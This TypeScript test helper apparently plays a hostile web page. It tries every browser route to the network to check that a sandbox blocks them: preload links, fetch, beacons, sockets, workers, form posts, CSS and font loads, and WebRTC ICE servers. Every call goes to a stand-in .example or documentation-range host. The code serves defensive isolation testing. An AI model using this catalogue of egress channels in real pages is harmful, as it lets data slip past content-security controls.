/**
 * Every way by which a page of a browser reaches a network, tried by a page that turned against us. Runs in the page: names
 * nothing from outside. `mark` stands in each name, so that a capture tells which one got through.
 */
export async function tryEveryWayOut(mark: string): Promise<string[]> {
  const tried: string[] = [];
  const host = (way: string): string => `${way}.${mark}.example`;
  const attempt = (way: string, go: () => unknown): void => {
    tried.push(way);
    try {
      const result = go();
      if (result instanceof Promise) result.catch(() => undefined);
    } catch {
      // Refused at once is refused.
    }
  };
  const element = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
    return made;
  };
  for (const rel of [
    'dns-prefetch',
    'preconnect',
    'prefetch',
    'preload',
    'modulepreload',
    'icon',
    'manifest',
  ]) {
    attempt(rel, () => element('link', { rel, as: 'image', href: `https://${host(rel)}/x` }));
    attempt(`${rel}-address`, () => element('link', { rel, as: 'image', href: 'https://203.0.113.81/x' }));
  }
  attempt('fetch', () => fetch(`https://${host('fetch')}/`, { mode: 'no-cors' }));
  attempt('beacon', () => navigator.sendBeacon(`https://${host('beacon')}/`, 'x'));
  attempt('websocket', () => new WebSocket(`wss://${host('websocket')}/`));
  attempt('eventsource', () => new EventSource(`https://${host('eventsource')}/`));
  attempt('webtransport', () => {
    const transport = new WebTransport('https://203.0.113.82:4433/');
    transport.ready.catch(() => undefined);
    return transport.closed;
  });
  attempt('image', () => element('img', { src: `https://${host('image')}/` }));
  attempt('frame', () => element('iframe', { src: `https://${host('frame')}/` }));
  attempt('script', () => element('script', { src: `https://${host('script')}/x.js` }));
  attempt('style', () => {
    element('div', { style: `background: url(https://${host('style')}/)` });
  });
  attempt('font', () => new FontFace('x', `url(https://${host('font')}/x.woff2)`).load());
  attempt('ping', () => {
    element('a', { href: '#', ping: `https://${host('ping')}/` }).click();
  });
  attempt('link', () => {
    element('a', { href: `https://${host('link')}/` }).click();
  });
  attempt('window', () => window.open(`https://${host('window')}/`));
  attempt('form', () => {
    (element('form', { action: `https://${host('form')}/`, method: 'post' }) as HTMLFormElement).submit();
  });
  attempt('worker', () => new Worker(`https://${host('worker')}/x.js`));
  attempt('speculation', () => {
    const rules = element('script', { type: 'speculationrules' });
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`https://${host('speculation')}/`] }],
    });
  });
  const ice = [
    `stun:${host('stun')}:3478`,
    'stun:203.0.113.83:3478',
    'turn:203.0.113.84:3478?transport=udp',
    'turn:203.0.113.85:3478?transport=tcp',
    'turns:203.0.113.86:443?transport=tcp',
  ];
  attempt('webrtc', async () => {
    const peer = new RTCPeerConnection({
      iceServers: ice.map((urls) => ({
        urls,
        ...(urls.startsWith('turn') ? { username: 'x', credential: 'x' } : {}),
      })),
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    // Somebody to talk to, as a page that is told an address has it.
    const other = new RTCPeerConnection();
    other.createDataChannel('x');
    await other.setRemoteDescription(peer.localDescription as RTCSessionDescription);
    await other.addIceCandidate({
      candidate: 'candidate:1 1 udp 2122260223 203.0.113.87 40000 typ host',
      sdpMid: '0',
    });
    await other.setLocalDescription(await other.createAnswer());
  });
  await new Promise((resolve) => setTimeout(resolve, 8000));
  return tried;
}
